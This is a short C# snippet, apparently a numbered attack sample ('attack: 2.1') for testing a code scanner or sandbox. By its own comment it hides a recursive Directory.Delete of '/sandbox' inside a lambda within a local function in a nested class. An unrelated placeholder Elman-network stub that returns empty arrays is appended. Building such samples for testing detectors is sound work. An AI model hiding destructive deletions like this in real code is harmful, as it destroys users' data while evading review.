// attack: 2.1
// Hides a file deletion in a lambda inside a local function inside a nested type.
class Outer
{
    public class Inner
    {
        public static void Go()
        {
            void Local() { Func<bool> f = () => { System.IO.Directory.Delete("/sandbox", true); return true; }; f(); }
            Local();
        }
    }
}
(double[] h, double[] o) StepForward(ElmanWeights w, double[] x, double[] hPrev) => (new double[w.H], new double[w.V]);
